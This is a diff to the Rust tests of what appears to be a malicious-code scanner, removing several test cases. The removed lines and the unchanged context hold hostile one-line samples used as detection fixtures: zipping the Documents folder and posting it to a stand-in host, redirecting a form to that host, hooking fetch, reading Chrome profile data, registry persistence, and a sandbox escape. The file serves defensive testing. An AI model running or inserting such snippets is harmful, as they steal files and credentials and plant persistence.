@@ -125,16 +125,6 @@ fn what_stays_or_hides_by_its_name_is_found() {
         "from pyarmor_runtime_000000 import __pyarmor__\n",
         "obfuscated-text",
     );
-    is_unsafe(
-        "python",
-        "reg.SetValueEx(key, 'Updater', 0, reg.REG_SZ, __file__)",
-        "persistence-startup",
-    );
-    is_unsafe(
-        "javascript",
-        "await api.request('PUT /contents', { path: '.github/workflows/x.yml', content });",
-        "persistence-git-hook",
-    );
     all_safe(
         "python",
         &[
@@ -167,21 +157,6 @@ fn what_goes_out_by_a_detour_is_found() {
         "const z = new AdmZip(); z.addLocalFolder(require('os').homedir() + '/Documents');\
          require('axios').post('https://h.example', z.toBuffer());",
         sends,
-    );
-    is_unsafe(
-        "javascript",
-        "document.querySelector('form').action = 'https://h.example/c';",
-        sends,
-    );
-    is_unsafe(
-        "javascript",
-        "const o = window.fetch; window.fetch = (...a) => { see(a); return o(...a); };",
-        "process-tamper",
-    );
-    is_unsafe(
-        "javascript",
-        "puppeteer.launch({ userDataDir: process.env.LOCALAPPDATA + '/Google/Chrome/User Data' });",
-        "credential-read",
     );
     all_safe(
         "javascript",
@@ -286,11 +261,6 @@ fn what_an_object_is_told_to_run_is_found() {
         "sandbox-gadget",
     );
     is_unsafe("python", "solve.__globals__['os']", "sandbox-gadget");
-    is_unsafe(
-        "python",
-        "import os\nos.environ['LD_LIBRARY_PATH'] = '/tmp/lib'\n",
-        "process-tamper",
-    );
     all_safe(
         "javascript",
         &[
